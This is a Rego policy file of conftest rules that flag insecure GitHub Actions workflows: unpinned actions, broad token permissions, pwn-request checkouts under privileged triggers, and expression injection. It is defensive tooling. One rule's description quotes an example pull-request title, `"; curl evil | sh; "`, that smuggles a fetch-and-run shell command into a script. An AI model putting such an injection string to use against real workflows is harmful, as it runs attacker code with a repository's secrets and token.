# METADATA
# title: GitHub Actions workflow rules
# description: |
#   Conftest-style rules over a workflow parsed by pipeline/scan/workflow. The input is
#   {"path": …, "workflow": <the YAML as JSON>, "lines": {<JSON pointer>: line},
#   "content_lines": {<pointer of a run: | block>: first content line},
#   "comments": {<pointer>: "# end-of-line comment"}}. Every deny is {"code", "msg", "line"};
#   a missing or malformed field denies rather than passes.
# custom:
#   check: workflow-policy
package repo.workflow

wf := input.workflow

default jobs := {}

jobs := wf.jobs if is_object(wf.jobs)

# esc escapes a JSON pointer token (RFC 6901).
esc(k) := replace(replace(k, "~", "~0"), "/", "~1")

line(ptr) := object.get(input.lines, ptr, 0)

# Every step of every job, with its JSON pointer.
steps contains {"job": j, "step": s, "ptr": sprintf("/jobs/%s/steps/%d", [esc(j), i])} if {
	some j, job in jobs
	is_array(job.steps)
	some i, s in job.steps
	is_object(s)
}

# Every `uses:` of a step or a reusable-workflow job.
uses_refs contains {"ref": s.step.uses, "ptr": concat("", [s.ptr, "/uses"])} if {
	some s in steps
	s.step.uses
}

uses_refs contains {"ref": job.uses, "ptr": sprintf("/jobs/%s/uses", [esc(j)])} if {
	some j, job in jobs
	job.uses
}

# METADATA
# title: GHA000 not a workflow
# description: The file is a mapping with a jobs mapping; anything else cannot be judged.
# custom:
#   code: GHA000
deny contains {
	"code": "GHA000",
	"msg": "the file is not a workflow: it is not a YAML mapping with a jobs mapping",
	"line": 1,
} if {
	not is_workflow
}

is_workflow if is_object(wf.jobs)

local_ref(ref) if startswith(ref, "./")

sha_pinned(ref) if regex.match(`^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$`, ref)

digest_pinned(ref) if regex.match(`^docker://[^@\s]+@sha256:[0-9a-f]{64}$`, ref)

# METADATA
# title: GHA001 action not pinned by commit SHA
# description: |
#   A tag or branch can be moved to other code after review. Every action and reusable
#   workflow is pinned to a full 40-character commit SHA (docker:// actions to a digest).
# custom:
#   code: GHA001
deny contains {
	"code": "GHA001",
	"msg": sprintf("%v is not pinned to a full 40-character commit SHA (write owner/repo@<sha> # vX.Y.Z)", [r.ref]),
	"line": line(r.ptr),
} if {
	some r in uses_refs
	not local_ref(r.ref)
	not sha_pinned(r.ref)
	not digest_pinned(r.ref)
}

# METADATA
# title: GHA002 pinned action without a version comment
# description: |
#   A bare SHA tells a reviewer nothing, and Dependabot updates the comment with the pin.
#   Every SHA pin carries a "# vX.Y.Z" comment naming the release it is.
# custom:
#   code: GHA002
deny contains {
	"code": "GHA002",
	"msg": sprintf("%s has no \"# vX.Y.Z\" comment naming the release of the pinned SHA", [r.ref]),
	"line": line(r.ptr),
} if {
	some r in uses_refs
	sha_pinned(r.ref)
	not regex.match(`^#\s*v[0-9]+\.[0-9]+\.[0-9]+`, object.get(input.comments, r.ptr, ""))
}

# METADATA
# title: GHA003 missing top-level permissions
# description: |
#   Without a top-level permissions block every job gets the repository's default token
#   permissions, which may be write-all. Set `permissions: {}` (or read-only) at the top and
#   grant each job what it needs.
# custom:
#   code: GHA003
deny contains {
	"code": "GHA003",
	"msg": "the workflow has no top-level permissions block; add `permissions: {}` and grant each job what it needs",
	"line": 1,
} if {
	object.get(wf, "permissions", null) == null
}

# METADATA
# title: GHA004 top-level write permission
# description: Top-level permissions apply to every job; they are `{}` or read-only.
# custom:
#   code: GHA004
deny contains {
	"code": "GHA004",
	"msg": "top-level permissions are write-all; use `permissions: {}` and grant each job what it needs",
	"line": line("/permissions"),
} if {
	wf.permissions == "write-all"
}

deny contains {
	"code": "GHA004",
	"msg": sprintf("top-level permissions grant %s: write to every job; move it to the job that needs it", [scope]),
	"line": line(sprintf("/permissions/%s", [esc(scope)])),
} if {
	some scope, level in wf.permissions
	level == "write"
}

deny contains {
	"code": "GHA004",
	"msg": sprintf("top-level permissions are %v, which is neither a scope map nor read-all", [wf.permissions]),
	"line": line("/permissions"),
} if {
	not is_object(wf.permissions)
	not wf.permissions in {"read-all", "write-all"}
	object.get(wf, "permissions", null) != null
}

# METADATA
# title: GHA005 job with write-all
# description: A job names each scope it writes to; write-all hands the token every scope.
# custom:
#   code: GHA005
deny contains {
	"code": "GHA005",
	"msg": sprintf("job %s has permissions write-all; list only the scopes it writes to", [j]),
	"line": line(sprintf("/jobs/%s/permissions", [esc(j)])),
} if {
	some j, job in jobs
	job.permissions == "write-all"
}

signing_action := `^(sigstore/|ossf/scorecard-action@|actions/attest|slsa-framework/)`

signing_command := `\b(cosign\s+(sign|attest|sign-blob)|pipeline\s+(release|sign|attest))\b`

signs(job) if regex.match(signing_action, job.uses)

signs(job) if {
	some s in job.steps
	regex.match(signing_action, s.uses)
}

signs(job) if {
	some s in job.steps
	regex.match(signing_command, s.run)
}

# METADATA
# title: GHA006 id-token write without signing
# description: |
#   id-token: write lets a job mint an OIDC token that a registry or cloud accepts as this
#   repository. Only jobs that sign keylessly (cosign, pipeline release, attest, scorecard) get it.
# custom:
#   code: GHA006
deny contains {
	"code": "GHA006",
	"msg": sprintf("job %s has id-token: write but signs nothing; only keyless signing jobs get an OIDC token", [j]),
	"line": line(sprintf("/jobs/%s/permissions/id-token", [esc(j)])),
} if {
	some j, job in jobs
	job.permissions["id-token"] == "write"
	not signs(job)
}

triggers contains wf.on if is_string(wf.on)

triggers contains t if {
	is_array(wf.on)
	some t in wf.on
}

triggers contains t if {
	is_object(wf.on)
	some t, _ in wf.on
}

privileged_triggers := {"pull_request_target", "workflow_run"}

untrusted_ref := `github\.event\.(pull_request|workflow_run)|github\.head_ref|refs/pull/`

untrusted_checkout(step) if {
	startswith(step.uses, "actions/checkout@")
	some k in ["ref", "repository"]
	regex.match(untrusted_ref, step["with"][k])
}

untrusted_checkout(step) if regex.match(`\bgh\s+pr\s+checkout\b|refs/pull/|github\.event\.(pull_request|workflow_run)\.head|github\.head_ref`, step.run)

# METADATA
# title: GHA007 privileged trigger runs pull-request code
# description: |
#   pull_request_target and workflow_run run with the base repository's secrets and a
#   writable token. Checking out the pull request's head there runs an attacker's code with
#   them ("pwn request"). Use pull_request for untrusted code.
# custom:
#   code: GHA007
deny contains {
	"code": "GHA007",
	"msg": sprintf("the workflow runs on %s and job %s checks out the pull request's code, which then runs with the base repository's secrets and token", [t, s.job]),
	"line": line(s.ptr),
} if {
	some t in triggers
	t in privileged_triggers
	some s in steps
	untrusted_checkout(s.step)
}

# Contexts an outside contributor controls (issue and PR titles, bodies, branch names, …).
tainted := `github\s*\.\s*(event|head_ref)\b|github\s*\[\s*['"](event|head_ref)['"]\s*\]`

# Scripts whose ${{ }} expressions are pasted into code before it runs.
scripts contains {"job": s.job, "text": s.step.run, "ptr": concat("", [s.ptr, "/run"])} if {
	some s in steps
	is_string(s.step.run)
}

scripts contains {"job": s.job, "text": s.step["with"].script, "ptr": concat("", [s.ptr, "/with/script"])} if {
	some s in steps
	startswith(s.step.uses, "actions/github-script@")
	is_string(s.step["with"].script)
}

# expr_line is the line of an expression inside a script: inside a `run: |` block, the block's
# first content line plus the newlines before the expression; otherwise the key's line.
expr_line(ptr, text, expr) := l if {
	base := input.content_lines[ptr]
	before := substring(text, 0, indexof(text, expr))
	l := base + count(indexof_n(before, "\n"))
} else := line(ptr)

# METADATA
# title: GHA008 expression injection in a script
# description: |
#   ${{ }} in run: (or github-script's script:) is replaced by text before the shell sees it,
#   so a pull request title like `"; curl evil | sh; "` becomes code. Pass untrusted values
#   through env: and use "$VAR".
# custom:
#   code: GHA008
deny contains {
	"code": "GHA008",
	"msg": sprintf("job %s puts %s into a script; pass it through env: and quote \"$VAR\"", [sc.job, expr]),
	"line": expr_line(sc.ptr, sc.text, expr),
} if {
	some sc in scripts
	some expr in regex.find_n(`(?s)\$\{\{.*?\}\}`, sc.text, -1)
	regex.match(tainted, expr)
}
